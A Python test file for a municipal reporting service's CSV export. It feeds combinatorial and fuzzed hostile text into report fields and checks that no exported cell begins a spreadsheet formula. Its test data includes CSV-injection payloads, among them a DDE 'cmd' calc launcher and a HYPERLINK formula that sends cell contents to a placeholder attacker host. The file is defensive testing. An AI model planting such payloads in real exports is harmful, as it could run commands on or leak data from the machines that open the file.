"""A formula in a CSV: hostile text in every column, taken apart as programs of any country would.

Whoever reports writes the neighbourhood, and a municipality its names. The file must hold no cell that
begins a formula, at whichever mark a program splits it, with quotes or without, folded or not (OWASP, CSV
injection).
"""

import csv
import io
import itertools
import random
import unicodedata
from collections.abc import AsyncIterator, Iterator
from uuid import uuid4

import pytest
from common import cells
from common.contracts.gateway import Neighbourhood
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reporting.api import EXPORT_PATH
from sqlalchemy.exc import IntegrityError

from tests.support.attempts import IS_LONG, Attempts
from tests.support.backing import Backing
from tests.support.reporting import Desk, counted, forms, municipality, reporting_desk

SEPARATORS = {"comma": ",", "semicolon": ";"}
#: At each of these some program ends a cell.
SPLITS = ",;\t| ؛"
SIGNS = "=+-@＝＋－＠"
#: What stands before a mark: nothing, text, text in the quotes of another program.
STARTS = ("", "x", '"x"', "'", "Zuid", "Kade 3", "Kade ")
MARKS = (
    "",
    ",",
    ";",
    "\t",
    "|",
    '"',
    "\n",
    "\r\n",
    "\r",
    "\u2028",
    "\x0b",
    "\x85",
    ',"',
    '";',
    "；",
    "，",
    "🄁",
    "؛",
    ";;",
)
BLANKS = (
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\u2060 ",
    "\u202e",
    "\u00ad",
    "\u3164",
    "\u0600",
    "\U00013430",
    "'",
    '"',
)
FORMULAS = ("cmd|'/c calc'!A1", "1+1", 'HYPERLINK("https://kwaad.example/?"&A1;"ja")', "SUM(A1:A9)")
#: Columns whose text somebody writes.
HELD = ("neighbourhood", "neighbourhoodName", "signalTypeName", "departmentName")
_HOSTILE = st.text(
    st.one_of(
        st.sampled_from("=+-@,;|\"' \t\r\n\u00a0\u200b\ufeff＝；x1"),
        st.characters(
            categories=("L", "M", "N", "P", "S", "Z", "Cc", "Cf", "Co", "Cn"), exclude_characters="\0"
        ),
    ),
    max_size=40,
)


@pytest.fixture
async def desk(backing: Backing) -> AsyncIterator[Desk]:
    async with reporting_desk(backing) as made:
        yield made


def hostile_texts(count: int) -> list[str]:
    """Every kind of text that could begin a formula somewhere, or as many of them as asked, mixed."""
    texts = [
        f"{start}{mark}{blank}{sign}{formula}"
        for start, mark, blank, sign, formula in itertools.product(STARTS, MARKS, BLANKS, SIGNS, FORMULAS)
    ]
    random.Random(7).shuffle(texts)  # noqa: S311 -- an order that repeats
    return texts[:count]


def naive_cells(body: str) -> Iterator[str]:
    """The cells that programs make of a file: split at every mark, with and without regard to quotes."""
    for text in (body, unicodedata.normalize("NFKC", body)):
        for split in SPLITS + '"':
            for line in text.splitlines():
                yield from line.split(split)
        for split in SPLITS:
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=split):
                yield from row


def begins_a_formula(cell: str) -> bool:
    """Whether a program that drops quotes, blanks and what is invisible sees a formula."""
    dropped = ("Zs", "Zl", "Zp", "Cc", "Cf")
    bare = "".join(
        each for each in cell if unicodedata.category(each) not in dropped and each not in '"\u3164'
    )
    folded = unicodedata.normalize("NFKC", bare)
    return len(folded) > 1 and folded.startswith(("=", "+", "-", "@", "\u2212"))  # a sign alone is a text


async def _file(desk: Desk, query: str) -> str:
    async with desk.get(f"{EXPORT_PATH}?headers=en&{query}") as answer:
        assert answer.status == 200
        body: bytes = await answer.read()
    return body.decode()


async def test_hostile_text_in_a_report_begins_no_cell(desk: Desk, attempts: Attempts) -> None:
    texts = hostile_texts(20_000 if IS_LONG else 600)
    await desk.hear([counted(uuid4(), neighbourhood=each) for each in texts], batch=500)
    for separator, mark in SEPARATORS.items():
        body = await _file(desk, f"separator={separator}")
        lines = body.splitlines()
        assert len(lines) == len(texts) + 1
        for line in lines:
            found = [each for each in naive_cells(line) if begins_a_formula(each)]
            attempts.record(f"a neighbourhood in a file with {separator}", succeeded=bool(found))
        rows = list(csv.DictReader(io.StringIO(body, newline=""), delimiter=mark, strict=True))
        assert {row["neighbourhood"] for row in rows} == {cells.guarded(each) for each in texts}


async def test_hostile_names_of_a_municipality_begin_no_cell(desk: Desk, attempts: Attempts) -> None:
    texts = hostile_texts(300 if IS_LONG else 15)
    for version, text in enumerate(texts, start=2):
        state = municipality(version, text).model_copy(
            update={"neighbourhoods": (Neighbourhood(code="haven", name=text),)}
        )
        first = counted(uuid4(), neighbourhood="haven")
        await desk.hear([forms(version, drugs=text), state, first])
        for separator in SEPARATORS:
            body = await _file(desk, f"separator={separator}&columns={','.join(HELD)}")
            found = [each for each in naive_cells(body) if begins_a_formula(each)]
            attempts.record(f"names in a file with {separator}", succeeded=bool(found))


async def test_no_code_in_a_row_can_begin_a_formula(desk: Desk, attempts: Attempts) -> None:
    """What passed every check of events still meets the table's own."""
    await desk.hear([counted(uuid4())])
    names = ("signal_type", "urgency", "channel", "reporter_kind", "department", "status", "result")
    for name in names:
        for text in ("=1", "x;=1", "-1", "x\n=1", "@a", 'x"=1'):
            try:
                await desk.write(f"UPDATE report_row SET {name} = :value", text)  # noqa: S608 -- a name above
            except IntegrityError:
                attempts.record(f"a formula as {name}", succeeded=False)
            else:
                attempts.record(f"a formula as {name}", succeeded=True)


@settings(
    max_examples=400 if IS_LONG else 25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(texts=st.lists(_HOSTILE, min_size=1, max_size=40), separator=st.sampled_from(sorted(SEPARATORS)))
async def test_any_text_comes_back_by_the_rule_and_begins_no_cell(
    desk: Desk, texts: list[str], separator: str
) -> None:
    await desk.write("DELETE FROM report_row")
    await desk.hear([counted(uuid4(), neighbourhood=each) for each in texts])
    body = await _file(desk, f"separator={separator}&columns=reportId,neighbourhood,daysToTake")
    assert not [each for each in naive_cells(body) if begins_a_formula(each)]
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=SEPARATORS[separator], strict=True))
    kept = ["".join(" " if _is_control(each) else each for each in text) for text in texts]
    assert sorted(cells.original(row[1]) for row in rows[1:]) == sorted(kept)


def _is_control(each: str) -> bool:
    return unicodedata.category(each) == "Cc" or each in "\u2028\u2029"


def test_a_formula_is_seen_where_there_is_one() -> None:
    """The eyes of these tests are open."""
    for line in ('"x;=cmd"', '"a","x;=1"', "x\t=1", "x|\u200b=1", '"x""=1"', "x；＝1", "x\r\n-1"):
        assert [each for each in naive_cells(line) if begins_a_formula(each)], line
    assert not [each for each in naive_cells('"x;\'=cmd","Zuid-Oost",7\r\n') if begins_a_formula(each)]
